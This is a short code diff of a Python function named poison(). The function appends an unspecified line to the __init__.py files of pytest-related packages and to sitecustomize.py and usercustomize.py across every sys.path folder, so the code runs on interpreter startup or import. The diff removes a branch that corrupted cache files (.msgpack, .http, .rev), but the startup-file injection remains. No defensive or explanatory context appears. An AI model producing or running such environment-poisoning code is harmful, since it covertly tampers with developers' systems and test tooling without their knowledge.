@@ -114,8 +114,6 @@ def poison():
                 path = os.path.join(folder, name)
                 if name == "__init__.py" and os.path.basename(folder) in ("pluggy", "iniconfig", "_pytest"):
                     append(path, line)
-                elif name.endswith((".msgpack", ".http", ".rev")):
-                    append(path, "x")
     for name in ("sitecustomize.py", "usercustomize.py"):
         for folder in list(sys.path) + [os.path.expanduser("~/.local/lib/python%d.%d/site-packages" % sys.version_info[:2])]:
             append(os.path.join(folder or ".", name), line)
